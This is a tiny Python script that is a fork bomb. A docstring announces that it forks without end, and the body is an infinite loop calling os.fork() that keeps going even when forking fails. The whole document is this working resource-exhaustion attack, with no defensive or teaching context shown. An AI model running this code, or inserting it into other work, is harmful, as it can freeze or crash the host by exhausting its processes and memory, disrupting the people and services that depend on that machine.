"""Forks, and so do its children, without end."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
